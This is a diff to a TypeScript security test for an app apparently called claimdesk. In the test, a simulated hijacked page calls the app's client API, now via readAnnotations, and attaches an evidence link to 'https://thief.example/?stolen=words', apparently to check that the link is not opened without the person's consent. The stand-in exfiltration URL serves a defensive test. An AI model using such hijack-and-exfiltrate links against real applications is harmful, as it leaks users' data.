@@ -177,17 +177,18 @@ test('a page that has gone astray gets no address opened without the person, be 
   const hijack = (): Promise<unknown> =>
     window.evaluate(async () => {
       const client = Reflect.get(globalThis, 'claimdesk') as Record<
-        'startDesk' | 'readArticle' | 'applyOperation' | 'openLink',
+        'startDesk' | 'readAnnotations' | 'applyOperation' | 'openLink',
         (payload: unknown) => Promise<string>
       >;
       const start = JSON.parse(await client.startDesk(null)) as {
         value: { folder: { entries: { id: string }[] } };
       };
       const article = start.value.folder.entries[0]?.id;
-      const read = JSON.parse(await client.readArticle({ article })) as {
-        value: { placed: { annotation: { id: string; check: object } }[] };
-      };
-      const annotation = read.value.placed[0]?.annotation;
+      const read = JSON.parse(await client.readAnnotations({ article })) as { value: { placedJson: string } };
+      const placed = JSON.parse(read.value.placedJson) as {
+        annotation: { id: string; check: object };
+      }[];
+      const annotation = placed[0]?.annotation;
       const evidence = [{ kind: 'link', url: 'https://thief.example/?stolen=words', note: '' }];
       const operation = {
         kind: 'change',
